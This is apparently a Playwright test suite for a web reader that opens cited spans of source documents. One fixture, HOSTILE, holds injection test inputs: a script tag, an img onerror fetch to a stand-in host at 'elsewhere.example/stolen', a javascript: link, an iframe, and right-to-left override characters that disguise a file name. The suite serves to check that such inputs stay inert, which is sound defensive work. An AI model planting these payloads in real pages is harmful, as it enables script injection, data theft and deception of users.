"""The page in a real browser: reading a source, whatever is in it, at the address of a span."""

from typing import Any
from urllib.parse import urlencode

import pytest
from browser_site import Site, ask, visiting
from playwright.sync_api import expect

BIRDS = """---
title: Birds of the Marsh
---
# Herons

Ada Lund counted 40 herons at the lake in 1871. The reeds were high. In 1872
Ada Lund counted 55 herons at the lake.

## In winter

🪶 The last heron left in May.

# Bitterns

Nobody saw a bittern. A bittern was heard at night.
"""
HOSTILE = """# <script>alert(1)</script>

<img src=x onerror="fetch('https://elsewhere.example/stolen')"> The password of the lock is tern.

![pixel](https://elsewhere.example/pixel.png) The lock of the boathouse
is [green](javascript:alert(2)).

The boathouse keeper signs as \u202egnp.exe\u202c and not as <b>Ada</b>. </mark></body>

<style>* { display: none }</style> <iframe src="https://elsewhere.example"></iframe> &lt;script&gt;
"""
ARABIC = "الطيور\n\nعدّت آدا لوند أربعين مالكًا للحزين عند البحيرة. كان القصب عاليًا ذلك العام."
LARGE = "\n\n".join(
    f"Chapter {n}\n\n" + "The water of the marsh rose and fell, as it does each year. " * 22
    for n in range(1500)
)
DOCUMENTS = {"birds.md": BIRDS, "hostile.txt": HOSTILE, "arabic.txt": ARABIC}
QUESTION = "How many herons did Ada Lund count at the lake?"
FIRST = "Ada Lund counted 40 herons at the lake in 1871."


@pytest.fixture
def page(tab: Any) -> Any:
    """A page that each test opens at the address it is about."""
    return tab


def known(page: Any, source: str) -> dict[str, Any]:
    """Return what the API tells of a document, and its text."""
    listed = page.request.get("/api/v1/documents").json()["documents"]
    (info,) = [info for info in listed if info["source"] == source]
    text = page.request.get(f"/api/v1/documents/{info['id']}/text").body().decode()
    return {**info, "text": text}


def address(document: dict[str, Any], words: str, **more: Any) -> str:
    start = document["text"].index(words)
    span = {"version": document["version"], "start": start, "end": start + len(words), **more}
    return f"/read/{document['id']}?{urlencode(span)}"


def test_a_pin_opens_the_source_at_its_words_and_the_address_does_again(page: Any) -> None:
    page.goto("/")
    ask(page, QUESTION).locator(".pin").first.click()
    current = page.locator("mark.current")
    current.wait_for()
    expect(current).to_have_text(FIRST)
    expect(page.locator("#reader-text mark")).to_have_count(2)
    assert "/read/" in page.url
    assert page.title() == "Birds of the Marsh · Pincite"
    page.reload()
    current.wait_for()

    expect(current).to_have_text(FIRST)
    expect(page.locator("mark:focus")).to_have_count(1)


def test_going_back_closes_the_source_and_goes_on_where_it_was(page: Any) -> None:
    page.goto("/")
    pin = ask(page, QUESTION).locator(".pin").first
    pin.click()
    page.locator("mark.current").wait_for()
    page.go_back()
    page.locator("#reader").wait_for(state="hidden")
    expect(page.locator(".said")).to_have_count(2)
    pin.click()
    page.locator("mark.current").wait_for()
    page.keyboard.press("Escape")
    page.locator("#reader").wait_for(state="hidden")

    assert page.url.endswith("/")


def test_next_and_previous_go_through_the_quotes_and_the_address_follows(page: Any) -> None:
    page.goto("/")
    ask(page, QUESTION).locator(".pin").first.click()
    page.get_by_text("Quote 1 of 2").wait_for()
    first = page.url
    page.get_by_role("button", name="Next quote").click()
    page.get_by_text("Quote 2 of 2").wait_for()

    assert page.locator("mark.current").inner_text().startswith("In 1872")
    assert page.url != first
    page.get_by_role("button", name="Previous quote").click()
    assert page.url == first


def test_a_link_is_copied_that_opens_exactly_this_span(browser: Any, site: Site) -> None:
    with visiting(browser, site, permissions=["clipboard-read", "clipboard-write"]) as page:
        page.goto("/")
        ask(page, QUESTION).locator(".pin").first.click()
        page.get_by_role("button", name="Copy link").click()
        page.get_by_text("Copied").first.wait_for()
        link = page.evaluate("navigator.clipboard.readText()")
    with visiting(browser, site) as other:
        other.goto(link)
        other.locator("mark.current").wait_for()

        expect(other.locator("mark.current")).to_have_text(FIRST)


def test_a_span_after_letters_of_two_units_is_marked_exactly(page: Any) -> None:
    """JavaScript counts UTF-16 units, the address code points."""
    document = known(page, "birds.md")
    page.goto(address(document, "The last heron left in May."))
    page.locator("mark.current").wait_for()

    expect(page.locator("mark.current")).to_have_text("The last heron left in May.")


def test_a_document_alone_is_opened_at_its_start(page: Any) -> None:
    page.goto(f"/read/{known(page, 'birds.md')['id']}")
    page.locator("#reader-text .heading").first.wait_for()

    expect(page.locator("#reader-notice")).to_have_text("")
    expect(page.locator("mark")).to_have_count(0)


@pytest.mark.parametrize(
    "query",
    [
        {"version": "0" * 64},
        {"start": 10**9, "end": 10**9 + 5},
        {"start": -4, "end": "x"},
        {"start": 9, "end": 2},
    ],
)
def test_an_address_that_fits_no_more_is_told_or_opens_the_document(
    page: Any, query: dict[str, Any]
) -> None:
    document = known(page, "birds.md")
    page.goto(address(document, FIRST, **query))
    page.locator("#reader-text .heading").first.wait_for()

    notice = page.locator("#reader-notice").inner_text()
    assert ("changed" in notice) == ("version" in query)
    assert ("beyond the end" in notice) == (query.get("start", 0) == 10**9)


def test_a_document_that_changed_says_so_and_still_shows_the_words(page: Any, site: Site) -> None:
    page.goto("/")
    site.add("tides.txt", "The tide rose by two feet. It fell at dawn.")
    ask(page, "By how much did the tide rise?").locator(".pin").first.wait_for()
    site.add("tides.txt", "A new line. The tide rose by two feet. It fell at dawn.")
    page.locator(".pin").first.click()
    page.get_by_text("The quoted words still stand in it").wait_for()
    expect(page.locator("mark.current")).to_have_text("The tide rose by two feet.")
    site.add("tides.txt", "Nothing is left.")
    page.reload()

    page.get_by_text("no longer has the quoted words").wait_for()


def test_a_document_that_was_moved_is_opened_where_it_is_now(page: Any, site: Site) -> None:
    """The address that was copied and the pins of an answer both name its former id."""
    page.goto("/")
    text = "The ferry left at nine. Nobody was on it."
    before = site.add("ferry.txt", text)
    ask(page, "When did the ferry leave?").locator(".pin").first.wait_for()
    link = address(known(page, "ferry.txt"), "The ferry left at nine.")
    site.add("boats/ferry.txt", text)
    assert page.request.delete(f"/api/v1/documents/{before}").ok
    page.locator(".pin").first.click()
    page.get_by_text("since been renamed or moved").wait_for()
    expect(page.locator("mark.current")).to_have_text("The ferry left at nine.")
    expect(page.locator("#reader-byline")).to_contain_text("boats/ferry.txt")
    reply = page.goto(link)

    assert reply.status == 200
    page.get_by_text("since been renamed or moved").wait_for()
    expect(page.locator("mark.current")).to_have_text("The ferry left at nine.")


def test_an_unknown_document_has_a_page_that_says_so(page: Any) -> None:
    reply = page.goto("/read/nothing")

    assert reply.status == 404
    expect(page.locator("h1")).to_have_text("This document is not in the collection.")
    page.get_by_role("link", name="ask a question").click()
    page.locator("#question").wait_for()


def test_the_outline_leads_to_headings_and_find_to_words(page: Any) -> None:
    page.goto(f"/read/{known(page, 'birds.md')['id']}")
    page.get_by_text("Contents").click()
    page.locator("#outline").get_by_role("button", name="Bitterns").click()
    field = page.locator("#find-words")
    field.fill("bittern")
    page.get_by_text("of 3").wait_for()
    page.keyboard.press("Enter")
    assert page.locator("#find-position").inner_text().endswith("of 3")
    field.fill("penguin")
    page.get_by_text("not found").wait_for()


def test_hostile_words_are_shown_as_they_are_and_nothing_leaves(page: Any) -> None:
    """The fixture looks for requests to elsewhere and for breaches of the policy."""
    page.goto("/")
    turn = ask(page, "What is the password of the lock of the boathouse?")
    turn.locator(".pin").first.hover()
    turn.locator(".why summary").click()
    turn.locator(".pin").first.click()
    page.locator("mark.current").wait_for()
    text = page.locator("#reader-text").inner_text()

    assert "<script>alert(1)</script>" in text
    assert "![pixel](https://elsewhere.example/pixel.png)" in text
    assert "[green](javascript:alert(2))" in text
    expect(page.locator("#main, #reader").locator("img, script, iframe, style, b")).to_have_count(0)
    expect(page.locator("a[href^=javascript]")).to_have_count(0)


AS_READ = """element => {
  // Where the letters of the word stand, from left to right.
  const texts = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  const found = [];
  for (let node = texts.nextNode(); node; node = texts.nextNode()) {
    const at = node.data.indexOf("gnp.exe");
    for (let n = 0; at >= 0 && n < 7; n += 1) {
      const range = new Range();
      range.setStart(node, at + n);
      range.setEnd(node, at + n + 1);
      found.push([range.getBoundingClientRect().left, node.data[at + n]]);
    }
  }
  return found.sort((a, b) => a[0] - b[0]).map(([, letter]) => letter).join("");
}"""


def test_characters_that_turn_the_direction_of_writing_are_seen_and_not_obeyed(page: Any) -> None:
    """Obeyed, "gnp.exe" would be read as "exe.png": a text would look like another one."""
    page.goto("/")
    turn = ask(page, "How does the boathouse keeper sign?")
    turn.locator(".said", has_text="gnp").wait_for()
    turn.locator(".pin").first.click()
    page.locator("mark.current").first.wait_for()
    expect(page.locator("mark.current[data-number]")).to_have_count(1)
    shown = page.locator("#reader-text")

    assert turn.locator(".quotes").evaluate(AS_READ) == "gnp.exe"
    assert shown.evaluate(AS_READ) == "gnp.exe"
    assert shown.locator(".turning").evaluate_all("all => all.map(e => e.dataset.name)") == [
        "RLO",
        "PDF",
    ]
    assert shown.evaluate("e => e.textContent") == known(page, "hostile.txt")["text"]


def test_writing_from_the_right_is_read_from_the_right(page: Any) -> None:
    page.goto("/")
    turn = ask(page, "آدا لوند البحيرة")
    turn.locator(".pin").first.click()
    page.locator("mark.current").wait_for()

    assert turn.locator(".quotes p").first.evaluate("e => getComputedStyle(e).direction") == "rtl"
    box = page.locator("mark.current").bounding_box()
    around = page.locator("#reader-text").bounding_box()
    assert box["x"] + box["width"] > around["x"] + around["width"] - 40


def test_a_document_that_is_opened_at_once_is_never_shown_without_its_style(page: Any) -> None:
    page.goto(f"/read/{known(page, 'birds.md')['id']}")
    page.locator("#reader-text .chunk").first.wait_for()
    blocking = """() => performance.getEntriesByType("resource")
      .filter((entry) => entry.renderBlockingStatus === "blocking").map((entry) => entry.name)"""

    assert any(name.endswith("read/reader.css") for name in page.evaluate(blocking))


def test_a_document_of_two_megabytes_is_read_in_pieces(page: Any, site: Site) -> None:
    """Only what is in sight is laid out, which is what makes it open at once."""
    assert len(LARGE) > 1_900_000
    site.add("large.txt", LARGE)
    document = known(page, "large.txt")
    page.goto(address(document, "Chapter 1200"))
    page.locator("mark.current").wait_for()
    box = page.locator("mark.current").bounding_box()
    assert 0 < box["y"] < page.viewport_size["height"]
    skipped = page.locator(".chunk").evaluate_all(
        "all => all.filter((chunk) => getComputedStyle(chunk).contentVisibility === 'auto').length"
    )
    assert skipped == page.locator(".chunk").count() > 200
